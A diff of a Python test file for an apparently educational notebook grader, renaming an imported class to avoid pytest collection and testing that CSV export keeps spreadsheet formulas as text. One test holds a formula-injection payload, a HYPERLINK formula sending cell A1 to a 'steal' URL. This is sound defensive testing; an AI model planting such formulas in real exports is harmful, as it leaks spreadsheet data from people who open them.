@@ -13,7 +13,8 @@ from nbformat.v4 import new_code_cell, new_output
 from graders.cli import main
 from graders.exercises import ASSIGNMENTS, exercises
 from graders.notebook_build import ROOT
-from graders.outcomes import COULD_NOT_RUN, NOT_ATTEMPTED, PASSED, WRONG, ExerciseOutcome, TestOutcome, classify_test
+from graders.outcomes import COULD_NOT_RUN, NOT_ATTEMPTED, PASSED, WRONG, ExerciseOutcome, classify_test
+from graders.outcomes import TestOutcome as CellOutcome  # not named Test*: pytest would try to collect it
 from graders.report import AssignmentResults, ClassResults, Submission, collect, write_csv
 from graders.report.page import render
 
@@ -114,7 +115,7 @@ def test_csv_cells_never_start_a_spreadsheet_formula(tmp_path):
     """A learner's exception message quoted in a diagnosis (or an odd student id) is kept as text."""
     name = exercises("ch03_loss_functions")[0].name
     quoted = '=HYPERLINK("https://example.com/steal?"&A1, "click")'
-    test = TestOutcome(f"test_{name}", NOT_ATTEMPTED, 0.0, 2.0, quoted)
+    test = CellOutcome(f"test_{name}", NOT_ATTEMPTED, 0.0, 2.0, quoted)
     results = ClassResults([AssignmentResults("ch03_loss_functions", [
         Submission("@student", [ExerciseOutcome(name, (test,))])])], ["@student"])
     write_csv(results, tmp_path / "r.csv")
